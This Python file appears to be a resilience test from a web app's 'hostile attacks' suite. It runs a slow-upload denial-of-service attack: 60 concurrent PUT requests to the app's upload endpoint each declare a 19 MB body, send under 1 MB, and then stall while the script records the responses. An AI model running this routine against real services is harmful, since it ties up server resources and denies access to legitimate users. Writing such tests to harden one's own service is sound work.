"""Sixty uploads that begin with 0.9 of 19 MB and then send nothing."""

import asyncio
from collections import Counter
from typing import Any
from urllib.parse import urlsplit

from tests.hostile.attacks import figures
from tests.hostile.attacks.client import Page, http_client, open_page

BEGUN, WHOLE = 900_000, 19_000_000


async def attack(url: str, uploads: int = 60, seconds: float = 120.0) -> dict[str, Any]:
    """
    Args:
        seconds: that each waits for an answer.
    """
    async with http_client(url) as client, open_page(url) as page:
        token = client.headers["X-Xsrftoken"]
        found = await asyncio.gather(*(_upload(page, token, number, seconds) for number in range(uploads)))
    return {"answers": dict(Counter(answer for answer, _ in found)), "longest_s": round(max(took for _, took in found), 1)}


async def _upload(page: Page, token: str, number: int, seconds: float) -> tuple[str, float]:
    """The status of the answer, or "none"; and the seconds until it came."""
    place, loop = urlsplit(page.url), asyncio.get_running_loop()
    begin = loop.time()
    reader, writer = await asyncio.open_connection(place.hostname, place.port)
    try:
        writer.write(
            f"PUT {urlsplit(page.upload_address(str(number))).path} HTTP/1.1\r\nHost: {place.netloc}\r\nX-Xsrftoken: {token}\r\n"
            f"Cookie: _streamlit_xsrf={token}\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: {WHOLE}\r\n\r\n"
            '--x\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\n\r\n'.encode()
        )
        writer.write(b"x" * BEGUN)
        async with asyncio.timeout(seconds):
            line = await reader.readline()
        return line.decode().split(" ")[1] if line else "closed", loop.time() - begin
    except TimeoutError:
        return "none", seconds
    except OSError:
        return "closed", loop.time() - begin
    finally:
        writer.close()


if __name__ == "__main__":
    figures.main(attack, __doc__)
